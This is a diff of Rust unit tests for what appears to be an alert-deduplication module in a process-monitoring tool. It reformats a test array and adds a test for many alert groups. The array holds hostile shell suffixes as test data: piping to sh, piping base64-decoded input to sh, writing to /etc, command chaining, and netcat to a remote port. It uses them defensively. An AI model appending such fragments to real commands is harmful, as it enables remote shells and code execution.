@@ -190,7 +190,9 @@ fn a_terminal_is_not_no_terminal() {
 fn cut_pipelines_lose_text_filters_only() {
     let noise = "sh -c ps aux | grep nginx | wc -l";
     assert!(!commands(noise, "sh -c ps aux | grep nginx"));
-    for more in [" | sh", " | tee /etc/x", " > /etc/x", " ; id", " && id", " | nc 203.0.113.9 4444", " | base64 -d | sh"] {
+    for more in
+        [" | sh", " | tee /etc/x", " > /etc/x", " ; id", " && id", " | nc 203.0.113.9 4444", " | base64 -d | sh"]
+    {
         assert!(commands(noise, &format!("{noise}{more}")), "{more}");
     }
     assert!(commands(noise, "sh -c ps aux | grep nginx | sort"), "two different filters are two pipelines");
@@ -299,6 +301,16 @@ fn a_full_table_suppresses_nothing() {
     assert!(seen.iter().all(|seen| seen.decision == super::Decision::Opened));
     assert_eq!(seen.iter().map(|seen| seen.evicted.len()).sum::<usize>(), 42);
     assert_eq!((dedup.stats().live, dedup.stats().evicted), (10, 42));
+}
+
+#[test]
+fn groups_that_differ_in_wildcards_only_can_be_many() {
+    let mut dedup = Dedup::new(Settings::default());
+    let parents: Vec<_> = (0..500).map(|n| alert(&[("proc.pname", &format!("nginx{n}"))])).collect();
+    let both: Vec<_> = parents.iter().chain(&parents).cloned().collect();
+    let numbers: Vec<_> = observe(&mut dedup, &both).iter().map(|seen| seen.number).collect();
+    assert_eq!(numbers[..500], numbers[500..]);
+    assert_eq!(dedup.stats().live, 500);
 }
 
 #[test]
